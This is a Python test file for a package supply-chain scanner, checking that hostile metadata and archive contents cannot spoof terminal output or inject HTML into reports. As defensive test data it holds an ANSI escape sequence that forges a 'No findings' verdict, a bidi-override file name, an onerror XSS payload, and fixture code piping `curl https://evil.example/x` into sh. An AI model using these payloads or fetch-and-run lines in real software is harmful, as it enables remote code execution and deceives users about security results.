"""Issue 12, item 15: text from the index and from archives cannot rewrite the terminal.

An account named `gutworth\\x1b[2K\\x1b[1A...` printed a fake "No findings. Everything is
fine." line. The local index serves six with hostile text in every field a report shows
(owner account, author, e-mail, URLs, a vulnerability, a yanked reason), and an archive has
a member named with a bidi override and code with an escape sequence; the real commands
(scan, check, domains, inspect, the pip guard's explanation) print them, as text and as
Markdown, with no raw control or invisible character, and the fake line never starts a
line.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chaingate.core.text import escaped, safe
from tests.dnsserver import DnsServer
from tests.pypiserver import PyPIServer, recorded_documents
from tests.rdapserver import RdapServer, healthy_world

NOW = "2026-11-25T12:00:00Z"
FAKE = "No findings. Everything is fine."
# Erase the line, go up one, erase that too, and print the verdict an attacker wants.
ATTACK = f"gutworth\x1b[2K\x1b[1A\x1b[2K\r{FAKE}\n{FAKE}\u202e\u2066\u200b\x9b2K"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def hostile_six() -> bytes:
    doc = json.loads(recorded_documents()["six"])
    doc["ownership"] = {"organization": ATTACK, "roles": [{"role": "Owner", "user": ATTACK}]}
    doc["info"]["author"] = ATTACK
    doc["info"]["author_email"] = "benjamin@python.org"
    doc["info"]["maintainer_email"] = f'"{ATTACK}" <{ATTACK}@python.org>'
    doc["info"]["project_urls"] = {"Source": f"https://github.com/benjaminp/six/{ATTACK}"}
    doc["vulnerabilities"] = [
        {"id": f"PYSEC-1{ATTACK}", "aliases": [ATTACK], "summary": ATTACK, "fixed_in": ["9"]}
    ]
    return json.dumps(doc).encode()


def run(server: PyPIServer, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "CHAINGATE_CACHE_DIR": str(cwd / "cache"),
        "CHAINGATE_DB": f"sqlite:///{cwd / 'store.db'}",
        "CHAINGATE_INDEX_URL": server.url,
        "PIP_CONFIG_FILE": os.devnull,
    }
    return subprocess.run(
        [sys.executable, "-m", "chaingate", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def assert_inert(output: str) -> None:
    assert RAW.search(output) is None, repr(RAW.search(output))
    for line in output.splitlines():
        assert not line.lstrip(" |").startswith(FAKE), line  # (a Markdown table row)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "requirements.txt").write_text("six==1.17.0\n")
    # Every finding the hostile text sits in blocks, so check shows its full screen.
    (tmp_path / "chaingate.toml").write_text(
        '[actions]\nsingle-owner = "block"\nknown-vulnerability = "block"\n'
    )
    return tmp_path


@pytest.mark.parametrize(
    "args",
    [
        ("scan", "--format", "text"),
        ("scan", "--format", "markdown"),
        ("check", "--format", "text"),
        ("check", "--format", "markdown"),
    ],
    ids=" ".join,
)
def test_index_text_cannot_rewrite_the_report(project: Path, args: tuple[str, ...]) -> None:
    with PyPIServer({**recorded_documents(), "six": hostile_six()}) as server:
        proc = run(server, project, *args, ".", "--no-resolve", "--no-domain-checks", "--now", NOW)
    assert proc.returncode in (0, 1), proc.stderr
    assert "gutworth" in proc.stdout  # the account is shown ...
    assert "\\x1b[2K" in proc.stdout  # ... with its escape sequence visible, not obeyed
    assert_inert(proc.stdout)
    assert_inert(proc.stderr)


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_index_text_cannot_rewrite_a_diff(project: Path, fmt: str) -> None:
    (project / "base.txt").write_text("")
    with PyPIServer({**recorded_documents(), "six": hostile_six()}) as server:
        proc = run(server, project, "diff", "requirements.txt", "--base", "base.txt",
                   "--no-resolve", "--no-domain-checks", "--now", NOW, "--format", fmt)  # fmt: skip
    assert proc.returncode in (0, 1), proc.stderr
    assert "gutworth" in proc.stdout
    assert_inert(proc.stdout)


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_json_and_sarif_keep_index_text_exact_and_escaped(project: Path, fmt: str) -> None:
    """For programs: the values are exact (no `safe()` there), and the JSON encoder writes
    every C0 control as an escape, so the raw bytes hold none."""
    with PyPIServer({**recorded_documents(), "six": hostile_six()}) as server:
        proc = run(server, project, "check", ".", "--no-resolve", "--no-domain-checks",
                   "--now", NOW, "--format", fmt)  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert re.search("[\x00-\x09\x0b-\x1f]", proc.stdout) is None
    assert any(ATTACK in text for text in _strings(json.loads(proc.stdout)))


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_domains_text_cannot_rewrite_the_report(
    project: Path, dns_server: DnsServer, rdap_server: RdapServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    healthy_world(dns_server, rdap_server)
    monkeypatch.setenv("CHAINGATE_DNS_SERVERS", dns_server.spec)
    monkeypatch.setenv("CHAINGATE_RDAP_BOOTSTRAP_URL", rdap_server.bootstrap_url)
    with PyPIServer({**recorded_documents(), "six": hostile_six()}) as server:
        proc = run(server, project, "domains", ".", "--no-resolve", "--now", NOW)
    assert proc.returncode == 0, proc.stderr
    assert "python.org" in proc.stdout and "gutworth" in proc.stdout
    assert_inert(proc.stdout)


def test_markdown_names_cannot_inject_html_or_break_tables(project: Path) -> None:
    doc = json.loads(hostile_six())
    doc["ownership"]["roles"][0]["user"] = "<img src=x onerror=alert(1)>|`x`|"
    with PyPIServer({**recorded_documents(), "six": json.dumps(doc).encode()}) as server:
        proc = run(server, project, "check", ".", "--no-resolve", "--no-domain-checks",
                   "--now", NOW, "--format", "markdown")  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    # Outside a code span (where GitHub shows it as text), no HTML.
    assert "<img" not in re.sub(r"`[^`\n]*`", "", proc.stdout)
    assert_inert(proc.stdout)
    for line in proc.stdout.splitlines():
        if line.startswith("| ") and "x onerror" in line:  # a table row: the columns hold
            assert len(re.findall(r"(?<!\\)\|", line)) in (4, 5, 6), line


def test_archive_names_and_code_cannot_rewrite_the_inspect_report(tmp_path: Path) -> None:
    demo = tmp_path / "demo"
    demo.mkdir()
    (demo / "setup.py").write_text(
        "import os\nfrom setuptools import setup\n"
        f"os.system('curl https://evil.example/x | sh # {ATTACK}')\nsetup(name='demo')\n"
    )
    (demo / "evil\u202etxt.py").write_text(
        f"import subprocess\nsubprocess.run(['sh', '-c', 'curl http://x | sh'])  # {ATTACK}\n"
    )
    with PyPIServer({}) as server:
        proc = run(server, tmp_path, "inspect", str(demo))
    assert proc.returncode == 1, proc.stderr
    assert "evil\\u202etxt.py" in proc.stdout
    assert_inert(proc.stdout)
    assert_inert(proc.stderr)


def test_an_error_quoting_a_hostile_file_name_is_inert(tmp_path: Path) -> None:
    with PyPIServer({}) as server:
        proc = run(server, tmp_path, "scan", f"missing\x1b[2K{FAKE}")
    assert proc.returncode == 2
    assert "\\x1b[2K" in proc.stderr
    assert_inert(proc.stderr)


UNSEEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}  # controls, formats, surrogates, separators


@settings(max_examples=300, deadline=None)
@given(text=st.text() | st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Ll"])))
def test_safe_leaves_nothing_a_terminal_obeys(text: str) -> None:
    shown = safe(text)
    assert not [c for c in shown if unicodedata.category(c) in UNSEEN]
    assert safe(shown) == shown  # escaping twice changes nothing more
    if not [c for c in text if unicodedata.category(c) in UNSEEN]:
        assert shown == text or any(c in "\u115f\u1160\u3164\uffa0" for c in text)
    assert safe(text, keep_newlines=True).split("\n") == [safe(p) for p in text.split("\n")]


def test_safe_knows_every_invisible_character_of_this_python() -> None:
    """The class in core/text.py is Unicode 14's; a newer Python's database may add some."""
    missed = [
        f"U+{cp:04X}"
        for cp in range(0x110000)
        if unicodedata.category(chr(cp)) in UNSEEN and safe(chr(cp)) == chr(cp)
    ]
    assert missed == []


def test_escaped_keeps_clean_documents_as_they_are() -> None:
    from tests.report.conftest import make_result

    result = make_result()
    assert escaped(result) is result
